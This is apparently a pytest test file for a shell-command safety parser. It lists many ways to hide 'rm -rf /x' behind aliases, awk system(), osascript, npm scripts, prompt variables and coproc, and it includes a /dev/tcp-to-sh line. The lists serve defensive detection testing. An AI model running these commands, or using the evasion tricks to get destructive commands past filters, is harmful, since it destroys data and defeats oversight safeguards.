"""Commands that arrive by a detour: names set in tables, lines read into variables, descriptors, awk, npm."""

from __future__ import annotations

import pytest

from shellguard.parsing.script import NestedKind
from tests.parsing.parsing_view import script_of, seen, under

RUNS_NOTHING = [
    "declare -n r; r=c; c='rm -rf /x'; echo $r",
    "a=(ls 'rm -rf /x'); n='a[0]'; ${!n}",
    "declare -A m=(['rm -rf /x']=ls); for k in \"${!m[@]}\"; do ${m[$k]}; done",
    'awk \'{print $1 > 3 ? "rm -rf /x" : "ls"}\' f',
    "awk '$1 > 3 {print \"rm -rf /x\"}' f",
    "BASH_ALIASES[x]='rm -rf /x'",
    "BASH_ALIASES[x]='rm -rf /x'; echo x",
    "echo BASH_ALIASES[x]='rm -rf /x'; x",
    "declare -A m; m[x]='rm -rf /x'; x",
    "osascript -e 'display dialog \"rm -rf /x\"'",
    'osascript -e \'tell app "Finder" to get name of window "rm -rf /x"\'',
    "npm pkg get scripts.x",
    "npm run build",
    "npm pkg set description='rm -rf /x' && npm run x",
    "npm pkg set scripts.x='echo hi' && npm run x",
    "coproc cat; echo 'rm -rf /x' >&${COPROC[1]}",
    "echo 'rm -rf /x' >&2",
    "exec 3> >(cat); echo 'rm -rf /x' >&3",
    "xargs -a <(echo rm -rf /x) echo",
    "xargs echo < <(echo rm -rf /x)",
    "xargs grep x <<< 'rm -rf /x'",
    "awk 'BEGIN{print \"rm -rf /x\"}'",
    "awk '/rm -rf \\/x/{print}' log",
    'awk \'{print "rm -rf /x" > "notes"}\' f',
    'awk \'BEGIN{print "rm -rf /x" | "sort"}\'',
    "awk 'BEGIN{c=\"rm -rf /x\"; print c}'",
    "awk -v c='rm -rf /x' '$0 == c' f",
    "echo 'rm -rf /x' | awk '{print $1}'",
    "echo 'rm -rf /x' | awk '{print}' | wc -l",
    "awk '{ s = s \" rm -rf /x\" } END { print s }'",
    'gawk \'BEGIN{f="length"; @f("rm -rf /x")}\'',
    "while read l; do echo \"$l\"; done <<< 'rm -rf /x'",
    "printf '%s\n' ls 'rm -rf /x' | while read l; do echo \"$l\"; done",
    "mapfile -t a <<< 'rm -rf /x'; echo \"${a[0]}\"",
    "printf -v x 'rm -rf %s' /x; echo \"$x\"",
    "read x <<< 'rm -rf /x'; grep \"$x\" log",
    "select x in 'rm -rf /x'; do echo $x; done",
    "declare -n r=x; x='rm -rf /x'; echo $r",
    "f() { local x='rm -rf /x'; }; f; $x",
    "f() { x='rm -rf /x'; }; $x",
    "xa='rm -rf /x'; for v in ${!x@}; do echo ${!v}; done",
    "x='\\x72m -rf /x'; echo ${x@E}",
    "x='$(rm -rf /x)'; echo \"${x@Q}\"",
    "exec 3<f; cat <&3",
    "exec 3<<< 'rm -rf /x'; cat <&3",
    "enable -n kill",
    "enable",
    "hash -p /bin/ls rm; hash -r",
    "hash -d rm",
    "alias x='rm -rf /x'",
    "alias x='rm -rf /x'; echo x",
    'command_not_found_handle() { echo "no $1"; }',
    "f() { rm -rf /x; }",
    "PS1='rm -rf /x $ '",
    "printf -v PS1 '%s $ ' 'rm -rf /x'",
    "read -p 'rm -rf /x? ' PS1",
    "export PS1='\\u: rm -rf /x'",
    "PROMPT='rm -rf /x'",
    "MAILCHECK='rm -rf /x'",
    "echo PROMPT_COMMAND='rm -rf /x'",
    "env PROMPT=x ls",
    "[[ 'a[$(rm -rf /x)]' == x ]]",
    "[[ $x -eq 1 ]]",
    "printf '%d' 'a[$(rm -rf /x)]'",
    "grep 'do shell script \"rm -rf /x\"' f",
    "git commit -m 'awk: system(\"rm -rf /x\")'",
    "complete -W 'rm -rf /x' x",
]

RUNS_RM = [
    "declare -n r; r=c; c=rm; $r -rf /x",
    "set -- rm; n=1; ${!n} -rf /x",
    "set -- a rm; ${!#} -rf /x",
    "a=(ls rm); n='a[1]'; ${!n} -rf /x",
    'declare -A m=([k]=rm); for k in "${!m[@]}"; do ${m[$k]} -rf /x; done',
    "pa=rm; for n in ${!p*}; do ${!n} -rf /x; done",
    'awk \'BEGIN{system(x ? "ls" : "rm -rf /x")}\'',
    'awk \'BEGIN{c = (NR > 0) ? "rm -rf /x" : "ls"; system(c)}\'',
    'awk \'BEGIN{c = 1 == 1 && y ? "rm" : "ls"; system(c " -rf /x")}\'',
    "BASH_ALIASES[x]='rm -rf /x'; x",
    "BASH_ALIASES[x]='rm -rf /x'\nx",
    "BASH_ALIASES+=([x]='rm -rf /x')\nx",
    "BASH_CMDS[x]=/bin/rm; x -rf /x",
    "alias x='rm -rf /x'\nx",
    "alias x='rm -rf /x'; x",
    "alias x=rm y='x -rf /x'\ny",
    "shopt -s expand_aliases; alias x='rm -rf /x'\nx",
    "osascript -e 'do shell script \"rm -rf /x\"'",
    "osascript -e 'do shell script \"rm -rf /x\" with administrator privileges'",
    'osascript -e \'tell application "Terminal" to do script "rm -rf /x"\'',
    'osascript -e \'do shell script "rm -rf " & quoted form of "/x"\'',
    "osascript -l JavaScript -e 'var app=Application.currentApplication(); app.includeStandardAdditions=true; app.doShellScript(\"rm -rf /x\")'",
    "osascript <<'E'\ndo shell script \"rm -rf /x\"\nE",
    "npm pkg set scripts.x='rm -rf /x' && npm run x",
    'npm pkg set scripts.x="rm -rf /x"; npm run-script x',
    "npm pkg set scripts.test='rm -rf /x' && npm test",
    "npm pkg set 'scripts.prebuild=rm -rf /x' && npm run build",
    'npm set-script x "rm -rf /x" && npm run x',
    "pnpm pkg set scripts.x='rm -rf /x' && pnpm x",
    "coproc bash <<< 'rm -rf /x'",
    "coproc bash; echo 'rm -rf /x' >&${COPROC[1]}",
    "coproc X { bash; }; echo 'rm -rf /x' >&\"${X[1]}\"",
    "xargs -a <(echo rm -rf /x) env",
    "xargs -a <(echo /x) rm -rf",
    "xargs rm -rf < <(echo /x)",
    "echo /x > f; xargs rm -rf < f",
    "echo /x > f; xargs -a f rm -rf",
    "xargs rm -rf <<< /x",
    "xargs rm -rf <<E\n/x\nE",
    "xargs sh -c 'rm -rf \"$@\"' _ < <(printf /x)",
    'gawk \'BEGIN{f="system"; @f("rm -rf /x")}\'',
    "awk 'BEGIN{system(\"rm -rf /x\")}'",
    'awk \'BEGIN { system ( "rm " "-rf /x" ) }\'',
    "awk -v c='rm -rf /x' 'BEGIN{system(c)}'",
    "awk 'BEGIN{c=\"rm -rf /x\"; system(c)}'",
    'awk \'BEGIN{c="rm -rf"; system(c " /x")}\'',
    "awk 'BEGIN{\"rm -rf /x\" | getline x}'",
    "awk 'BEGIN{c=\"rm -rf /x\"; c | getline}'",
    "awk 'BEGIN{c=\"rm -rf /x\"; while ((c | getline l) > 0) print l}'",
    'awk \'BEGIN{print "rm -rf /x" | "sh"}\'',
    'awk \'BEGIN{s="sh"; print "rm -rf /x" | s}\'',
    'gawk \'BEGIN{print "rm -rf /x" |& "/bin/bash"}\'',
    'awk \'BEGIN{printf "%s -rf /x", "rm" | "sh"}\'',
    'awk \'{print "rm -rf /x" | "sh"}\' f',
    "echo 'rm -rf /x' | awk '{system($0)}'",
    "echo 'rm -rf /x' | awk '{print | \"sh\"}'",
    "echo /x | awk '{system(\"rm -rf \" $1)}'",
    "echo /x | awk '{print \"rm -rf \" $1}' | sh",
    "X='rm -rf /x' awk 'BEGIN{system(ENVIRON[\"X\"])}'",
    "while read l; do $l; done <<< 'rm -rf /x'",
    "while read -r l; do $l; done <<E\nrm -rf /x\nE",
    "echo 'rm -rf /x' | while read l; do $l; done",
    "echo 'rm -rf /x' | while read l; do eval \"$l\"; done",
    "while read a b; do $a $b; done <<< 'rm -rf /x'",
    'echo /x | while read d; do rm -rf "$d"; done',
    "printf '%s\n' ls 'rm -rf /x' | while read l; do $l; done",
    'while IFS= read -r l; do bash -c "$l"; done < <(echo rm -rf /x)',
    "mapfile -t a <<< 'rm -rf /x'; ${a[0]}",
    "mapfile -t a <<< 'rm -rf /x'; eval \"${a[@]}\"",
    "readarray -t a < <(echo rm -rf /x); ${a[0]}",
    'mapfile -t a <<E; for c in "${a[@]}"; do $c; done\nrm -rf /x\nE',
    "mapfile -C 'rm -rf /x;' -c 1 x <<< a",
    "printf -v x 'rm -rf %s' /x; $x",
    "printf -v x '%s' 'rm -rf /x'; eval $x",
    "printf -vx '%s' 'rm -rf /x'; eval $x",
    "read x <<< 'rm -rf /x'; $x",
    "read -r x y <<< 'rm -rf /x'; $x $y",
    "read -a x <<< 'rm -rf /x'; \"${x[@]}\"",
    'IFS= read -r x < <(echo rm -rf /x); eval "$x"',
    "select x in 'rm -rf /x'; do $x; done",
    "select x in 'rm -rf /x' ls; do eval $x; break; done <<< 1",
    "declare -n r=x; x='rm -rf /x'; $r",
    "declare -n r=x; r='rm -rf /x'; $x",
    "f() { local -n o=$1; o='rm -rf /x'; }; f z; $z",
    "xa='rm -rf /x'; for v in ${!x@}; do ${!v}; done",
    "xa='rm -rf /x'; v=xa; ${!v}",
    "x='\\x72m -rf /x'; ${x@E}",
    "x='\\x72m -rf /x'; eval \"${x@E}\"",
    "x='$(rm -rf /x)'; : \"${x@P}\"",
    "x='rm -rf /x'; ${x@P}",
    "x=rm; ${x@L} -rf /x",
    "r{m..m} -r{f..f} /{x..x}",
    'set -- rm -rf /x; "$@"',
    "set -- rm -rf /x; ${@}",
    "exec 3<<< 'rm -rf /x'; bash <&3",
    "bash 3<<< 'rm -rf /x' <&3",
    "hash -p /bin/rm ls; ls -rf /x",
    "command_not_found_handle() { rm -rf /x; }; nosuchthing",
    "command_not_found_handle() { rm -rf /x; }",
    "PROMPT_COMMAND='rm -rf /x'",
    "export PROMPT_COMMAND='rm -rf /x'",
    "declare -x PROMPT_COMMAND='rm -rf /x'",
    "PROMPT_COMMAND=(ls 'rm -rf /x')",
    "PROMPT_COMMAND+=('rm -rf /x')",
    "PROMPT_COMMAND+='; rm -rf /x'",
    "PS1='$(rm -rf /x)'",
    "export PS1='$(rm -rf /x)'",
    "printf -v PS1 '%s> ' '`rm -rf /x`'",
    "printf -v PROMPT_COMMAND '%s%s' r 'm -rf /x'",
    "read PROMPT_COMMAND <<< 'rm -rf /x'",
    "PS4='$(rm -rf /x)' bash -x -c ls",
    "PS4='$(rm -rf /x)'; set -x; ls",
    "export PS4='$(rm -rf /x)'; bash -x f",
    "PS0='$(rm -rf /x)'",
    "readonly PS2='`rm -rf /x`'",
    "BASH_ENV='$(rm -rf /x)' bash -c ls",
    "BASH_ENV=<(echo rm -rf /x) bash -c ls",
    "ENV='$(rm -rf /x)' sh -i",
    "env 'BASH_ENV=$(rm -rf /x)' bash -c ls",
    "env PS4='$(rm -rf /x)' bash -xc ls",
    "env 'PROMPT_COMMAND=rm -rf /x' bash -i",
    "env BASH_FUNC_ls%%='() { rm -rf /x; }' bash -c ls",
    "function ls { rm -rf /x; }; ls",
    "trap 'rm -rf /x' DEBUG; ls",
    "echo 'rm -rf /x' | xargs -I{} sh -c '{}'",
    "echo 'rm -rf /x' | xargs -0 bash -c",
    "compgen -C 'rm -rf /x'",
    "complete -C 'rm -rf /x' ls",
    "bind -x '\"\\C-l\": rm -rf /x'",
    "time -p rm -rf /x",
    'a=(rm -rf /x); "${a[@]}"',
    "declare -A m=([k]='rm -rf /x'); ${m[k]}",
    "let 'a[$(rm -rf /x)]=1'",
    "test -v 'a[$(rm -rf /x)]'",
    "x='a[$(rm -rf /x)]'; ((x))",
    "[[ 'a[$(rm -rf /x)]' -eq 1 ]]",
    "source /dev/stdin <<< 'rm -rf /x'",
    ". <(echo rm -rf /x)",
    "bash < <(echo rm -rf /x)",
    "bash -s <<< 'rm -rf /x'",
    "echo rm -rf /x | tee >(sh)",
]


def removes(line: str) -> bool:
    """Whether a command of the line, nested ones too, would remove /x when the line runs or later."""
    return any(
        command.program == "rm" and any(word.value == "/x" for word in command.words)
        for command, around in script_of(line).walk()
        if not any(nested.kind is NestedKind.DEFINITION for nested in around)
    )


@pytest.mark.parametrize("line", RUNS_NOTHING)
def test_what_is_only_kept_or_shown_does_not_run(line: str) -> None:
    assert not removes(line)


@pytest.mark.parametrize("line", RUNS_RM)
def test_what_runs_by_a_detour_is_seen(line: str) -> None:
    assert removes(line)


def test_what_a_descriptor_reads_from_is_named() -> None:
    for line in ("exec 3<>/dev/tcp/h/1; sh <&3", "exec 0<>/dev/tcp/h/1; sh"):
        (nested,) = script_of(line).commands[1].nested
        assert (nested.script.text, nested.known) == ("/dev/tcp/h/1", False)


def test_a_file_that_is_loaded_into_the_shell_is_code_nobody_read() -> None:
    (nested,) = script_of("enable -f ./x.so x").commands[0].nested
    assert (nested.kind, nested.script.text, nested.known) == (NestedKind.FILE, "./x.so", False)
    assert not script_of("enable -n kill").commands[0].nested


def test_what_a_function_leaves_and_prints_is_known_to_its_caller() -> None:
    assert seen("f() { x=a; }; f; ls $x")[-1] == "ls a"
    assert seen("x=b; f() { local x=a; }; f; ls $x")[-1] == "ls b"
    assert seen("f() { echo a$1; }; ls $(f b)")[-2:] == ["f b", "echo ab"]
    assert script_of("f() { echo a$1; }; ls $(f b)").commands[-1].words[1].value == "ab"


def test_a_function_that_the_shell_calls_by_itself_runs_later() -> None:
    assert under("command_not_found_handle() { rm x; }", NestedKind.LATER) == ["rm x"]
    assert under("other() { rm x; }", NestedKind.LATER) == []


def test_operands_of_awk_that_nobody_knows_stay_open() -> None:
    code = script_of("awk '{system(\"rm \" $1)}' f").commands[0]
    (word,) = code.nested[1].script.commands[0].words[1:]
    assert not word.known
